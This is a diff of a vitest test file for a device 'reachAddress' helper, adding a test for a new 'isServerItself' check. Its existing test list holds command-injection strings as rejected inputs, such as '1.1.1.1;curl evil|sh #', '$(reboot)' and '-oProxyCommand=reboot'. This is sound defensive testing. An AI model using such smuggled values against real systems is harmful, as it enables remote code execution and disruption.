@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { reachAddress } from '../../src/admin/page/device/reach-address.ts'
+import { isServerItself, reachAddress } from '../../src/admin/page/device/reach-address.ts'
 
 test('the registered address goes before the one that the device gives', () => {
   expect(reachAddress({ address: 'pi-1.factory.lan', ipAddress: '192.168.10.31' })).toBe('pi-1.factory.lan')
@@ -11,4 +11,8 @@ test.each(['192.168.10.31', 'fe80::1', '2001:db8::31'])('%s, given by the device
 
 test.each(['1.1.1.1;curl evil|sh #', '$(reboot)', '-oProxyCommand=reboot', '1.1.1.1\n', 'evil.example', ''])('%j, given by a device, gets into no command', (ipAddress) => {
   expect(reachAddress({ address: null, ipAddress })).toBeUndefined()
+})
+
+test.each([['127.0.0.1', true], ['192.0.2.3', false], ['127.1.0.3', false], [null, false]])('a device registered at %s is the server itself: %s', (registered, isIt) => {
+  expect(isServerItself(registered)).toBe(isIt)
 })
